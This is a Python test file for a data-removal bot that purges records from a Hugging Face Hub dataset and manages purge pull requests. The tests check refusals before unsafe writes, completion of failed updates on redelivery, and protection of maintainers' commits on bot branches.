def test_a_hub_dataset_holding_files_the_purge_cannot_rewrite_is_refused_before_any_write(env, gh, hub, cli):
    """The purge rewrites a source's Hub dataset by file name (data/<source>/part-000.jsonl → part-000.jsonl): a
    dataset that keeps the data elsewhere (here the Hub viewer's data/train-*.jsonl) would go on serving the
    removed records after a purge that says it is done. Refused, naming the file, before anything is written."""
    src = env / "sources" / "acme-fw.toml"
    src.write_text(src.read_text() + '\n[hub_data]\nrepo = "test-lab/fw-data"\n')
    data = (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes()
    repo = hub.create_repo("test-lab/fw-data", repo_type="dataset",
                           files={"README.md": b"# fw data\n", "data/train-000.jsonl": data})
    old = repo.resolve("main")
    number = triaged(env, gh, cli, "acme/fw")
    res = handle(cli, env, "issue_comment", comment_event(number, "/kiki approve", "writer"))
    assert res.code == 2
    assert "test-lab/fw-data holds data/train-000.jsonl" in res.err and "part-000.jsonl" in res.err
    assert gh.pulls(GH_REPO) == [] and repo.resolve("main") == old


def test_a_hub_update_that_failed_is_finished_by_a_redelivery_after_the_purge_pr_merged(
        env, gh, hub, cli, gh_client, tmp_path, monkeypatch):
    """The Hub dataset is rewritten after the purge PR holds the entry; when that write fails (here: no Hub
    token in the run) and the PR merges anyway, the redelivered approval finishes it: the ledger saying
    `purged` while the Hub dataset still serves the records is not a state to leave."""
    src = env / "sources" / "acme-fw.toml"
    src.write_text(src.read_text() + '\n[hub_data]\nrepo = "test-lab/fw-data"\nsquash_history = true\n')
    data = (env / "data" / "acme-fw" / "part-000.jsonl").read_bytes()
    gh.push(GH_REPO, "main", {"sources/acme-fw.toml": src.read_bytes()})
    repo = hub.create_repo("test-lab/fw-data", repo_type="dataset", files={"part-000.jsonl": data})
    old = repo.resolve("main")
    number = triaged(env, gh, cli, "acme/fw")
    event = comment_event(number, "/kiki approve", "writer")
    with monkeypatch.context() as m:
        m.delenv("HF_TOKEN")
        res = handle(cli, checkout(gh, tmp_path / "run"), "issue_comment", event)
    assert res.code != 0 and "Traceback" not in res.err
    assert repo.files("main")["part-000.jsonl"] == data  # the write failed
    gh_client.get_repo(GH_REPO).get_pull(pr_number(gh, number)).merge()
    again = checkout(gh, tmp_path / "redelivered")
    res = handle(cli, again, "issue_comment", event)
    assert res.code == 0, res.err
    purged = (again / "data" / "acme-fw" / "part-000.jsonl").read_bytes()
    assert purged != data and repo.files("main")["part-000.jsonl"] == purged
    assert len(repo.log("main")) == 1 and repo.resolve(old) is None
    assert labels(gh, number) == {"removal-request", "purged", "retrain-scheduled"}
    [status] = [c.body for c in bot_comments(gh, number) if "approved and purged" in c.body]
    assert f"/pull/{pr_number(gh, number)}" in status
    # Delivered once more: nothing left to do, nothing written on either side.
    head, since = repo.resolve("main"), len(gh.requests)
    assert handle(cli, checkout(gh, tmp_path / "third"), "issue_comment", event).code == 0
    assert writes(gh, since) == [] and repo.resolve("main") == head


def test_a_bot_branch_holding_a_maintainers_commit_is_never_rebuilt_over_it(env, gh, cli, gh_client, tmp_path):
    """Rebuilding a bot branch on a moved default branch replaces it; a commit someone pushed to it would be
    dropped. Refused, saying whose commits and what to do; the other bot branches are rebuilt all the same."""
    one = triaged(env, gh, cli, "https://github.com/acme/fw/blob/main/src/f5.c")
    two = triaged(env, gh, cli, "https://github.com/acme/fw/blob/main/src/f6.c")
    for number in (one, two):
        event = comment_event(number, "/kiki approve", "writer", 700 + number)
        assert handle(cli, checkout(gh, tmp_path / f"run-{number}"), "issue_comment", event).code == 0
    branch = f"kiki/removal/R-{two}"  # the newest: the first the refresh comes to
    bots = gh.repo(GH_REPO).branches[branch]
    mine = gh.push(GH_REPO, branch, {"NOTES.md": b"why we removed it\n"}, "Explain the removal", author="maint")
    gh.push(GH_REPO, "main", {"README.md": b"moved on\n"}, author="owner")
    res = handle(cli, checkout(gh, tmp_path / "push"), "push", push_event())
    assert res.code == 1 and "Traceback" not in res.err
    assert f"{branch} holds commits kiki-bot did not make: {mine[:7]} by maint" in res.err
    assert f"git push --force origin {bots}:refs/heads/{branch}" in res.err
    assert gh.repo(GH_REPO).branches[branch] == mine  # kept, with the maintainer's commit
    assert gh_client.get_repo(GH_REPO).compare("main", f"kiki/removal/R-{one}").status == "ahead"  # rebuilt
